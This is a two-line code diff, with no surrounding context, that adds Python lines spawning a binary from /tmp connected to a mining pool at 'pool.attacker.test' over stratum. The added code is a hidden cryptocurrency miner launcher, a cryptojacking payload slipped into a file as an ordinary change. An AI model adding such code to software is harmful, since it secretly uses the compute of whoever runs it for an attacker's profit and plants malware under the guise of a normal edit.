@@ -1,0 +1,2 @@
+import subprocess
+subprocess.Popen(["/tmp/x", "-o", "stratum+tcp://pool.attacker.test:3333"])
